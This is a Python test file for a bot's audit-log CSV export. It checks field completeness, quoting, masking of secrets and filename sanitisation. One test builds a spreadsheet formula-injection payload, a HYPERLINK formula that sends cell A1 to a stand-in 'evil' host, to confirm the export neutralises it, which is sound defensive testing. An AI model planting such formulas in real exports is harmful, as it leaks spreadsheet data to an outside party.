"""The audit log as CSV: every field, nothing that a spreadsheet would run, nothing masked shown."""

import csv
import io
from dataclasses import replace

import pytest

from bot.domain.audit import AuditEntry, Outcome
from bot.domain.policy import Catalog, QueuePolicy
from bot.render.history_file import COLUMNS, table

CATALOG = Catalog(default=QueuePolicy(), queues={"sims": QueuePolicy(redact=("simAccount",))})
NOW = 1_700_000_000_123
ENTRY = AuditEntry(
    at=NOW, user="U0BOB", channel="C1", action="clean", what="clean 9 × WHMCS_ERROR",
    outcome=Outcome.DONE, queue="sims", jobs=("1", "2"), job_count=2, detail="removed 2, kept 0",
    reason="they said so", plan="p1", id="1-1", approver="U0ALICE",
    filter="failed, older than 7d", counts=(("done", 2), ("failed", 0)), asked_by="U0CAROL",
    ended_by="U0DANA",
)  # fmt: skip


def read(*entries, queue=None):
    file = table(entries, queue, NOW, catalog=CATALOG)
    text = file.content.decode("utf-8-sig")
    return [dict(row) for row in csv.DictReader(io.StringIO(text, newline=""), strict=True)]


def test_all_that_is_known_of_an_entry_is_in_its_line():
    assert read(ENTRY) == [
        {
            "time": "2023-11-14T22:13:20.123Z",
            "user": "U0BOB",
            "channel": "C1",
            "action": "clean",
            "what": "clean 9 × WHMCS_ERROR",
            "filter": "failed, older than 7d",
            "queue": "sims",
            "outcome": "done",
            "detail": "removed 2, kept 0",
            "counts": "done 2; failed 0",
            "approver": "U0ALICE",
            "reason": "they said so",
            "job_count": "2",
            "jobs": "1 2",
            "plan": "p1",
            "id": "1-1",
            "asked_by": "U0CAROL",
            "ended_by": "U0DANA",
        }
    ]


def test_the_outcome_is_the_more_exact_word_where_there_is_one():
    refused = replace(ENTRY, outcome=Outcome.REFUSED)
    [older, newer] = read(refused, replace(refused, word="expired"))
    assert (older["outcome"], newer["outcome"]) == ("refused", "expired")


@pytest.mark.parametrize("sign", ["=", "+", "-", "@", "\t", "\r", "\n"])
@pytest.mark.parametrize("field", ["what", "filter", "reason", "detail", "queue", "user", "plan"])
def test_no_cell_begins_as_a_formula_does(sign, field):
    evil = f'{sign}HYPERLINK("https://evil/?x="&A1,"click")'
    [row] = read(replace(ENTRY, **{field: evil}))
    assert row[field].startswith("'")
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r", "\n")) for cell in row.values())


def test_job_ids_that_begin_with_a_sign_are_text_too():
    [row] = read(replace(ENTRY, jobs=("-1", "=2")))
    assert row["jobs"] == "'-1 =2"


def test_quotes_commas_and_new_lines_stay_in_their_cell():
    odd = 'a "b", c\nd;\te'
    [first, second] = read(replace(ENTRY, reason=odd), ENTRY)
    assert first["reason"] == odd
    assert second["reason"] == "they said so"


def test_what_the_queue_masks_is_masked_in_the_file():
    secret = "retry simAccount=8112345 Authorization: Bearer abc.def.ghi"
    [row] = read(replace(ENTRY, what=secret, reason=secret, filter=secret, detail=secret))
    assert "8112345" not in str(row)
    assert "abc.def" not in str(row)


def test_half_a_character_does_not_stop_the_file():
    assert read(replace(ENTRY, reason="\ud800x"))[0]["reason"] == "?x"


def test_the_file_says_what_it_is_and_when_it_was_made():
    file = table([ENTRY], "../we<ird>/sims", NOW, catalog=CATALOG)
    assert file.name == "bullhorn-history-.._we_ird_sims-20231114T221320Z.csv"
    assert table([ENTRY], None, NOW, catalog=CATALOG).name == (
        "bullhorn-history-all-20231114T221320Z.csv"
    )
    assert file.content.startswith(b"\xef\xbb\xbf" + ",".join(COLUMNS).encode())
